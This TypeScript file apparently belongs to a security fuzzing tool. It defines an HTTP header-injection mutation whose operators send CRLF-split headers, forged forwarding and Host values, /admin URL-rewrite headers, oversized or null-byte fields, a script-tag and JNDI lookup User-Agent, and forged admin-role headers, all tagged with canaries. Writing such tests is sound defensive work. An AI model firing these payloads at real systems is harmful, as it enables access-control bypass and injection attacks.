import { wireOperator } from './wire.ts'
import type { Mutation } from './mutation.ts'

/** Header fields that say what the sender has no right to say. */
export const httpHeaderInjection: Mutation = {
  type: 'http_header_injection',
  summary:
    'Sends header fields that are split, doubled, forged, oversized or hold a null byte, and looks for their echo.',
  category: 'system',
  weight: 1.7,
  expectation: 'DEG',
  needs: 'http',
  operators: () => operators,
}

const fields = Array.from({ length: 1_500 }, (_, at) => `X-Field-${at}: ${at}`)

const operators = [
  wireOperator('line-break-in-value', (canary) => ({
    lines: [`X-Request-Id: 1\r\nX-Injected: ${canary()}\r\nSet-Cookie: session=${canary()}`],
  })),
  wireOperator('forged-origin', (canary) => ({
    lines: [
      'X-Forwarded-For: 127.0.0.1',
      `X-Forwarded-Host: ${canary().toLowerCase()}.example`,
      'X-Forwarded-Proto: https',
      'X-Real-IP: 127.0.0.1',
      `Forwarded: for=127.0.0.1;host=${canary().toLowerCase()}.example`,
    ],
  })),
  wireOperator('host-override', (canary) => ({
    without: ['host'],
    lines: [`Host: ${canary().toLowerCase()}.example`],
  })),
  wireOperator('two-hosts', (canary) => ({ lines: [`Host: ${canary().toLowerCase()}.example`] })),
  wireOperator('rewritten-url', (canary) => ({
    lines: [`X-Original-URL: /admin?token=${canary()}`, `X-Rewrite-URL: /admin?token=${canary()}`],
  })),
  wireOperator('long-value', (_, random) => ({
    lines: [`X-Padding: ${'a'.repeat(random.pick([17_000, 20_000, 40_000, 65_000]))}`],
  })),
  wireOperator('many-fields', (_, random) => ({
    lines: fields.slice(0, random.pick([150, 500, 1_500])),
  })),
  wireOperator('null-byte', (canary) => ({ lines: [`X-Request-Id: ${canary()}\u0000.log`] })),
  wireOperator('control-characters', (canary) => ({
    lines: [`X-Note: \u0007\u001b[31m${canary()}\u007f`],
  })),
  wireOperator('folded-line', (canary) => ({ lines: [`X-Note: first\r\n ${canary()}`] })),
  wireOperator('markup-in-agent', (canary) => ({
    without: ['user-agent'],
    lines: [`User-Agent: <script>${canary()}</script>\${jndi:ldap://127.0.0.1/${canary()}}`],
  })),
  wireOperator('forged-roles', (canary) => ({
    lines: ['X-User-Role: admin', 'X-Internal: true', `Authorization-Override: ${canary()}`, 'X-Debug: 1'],
  })),
] as const
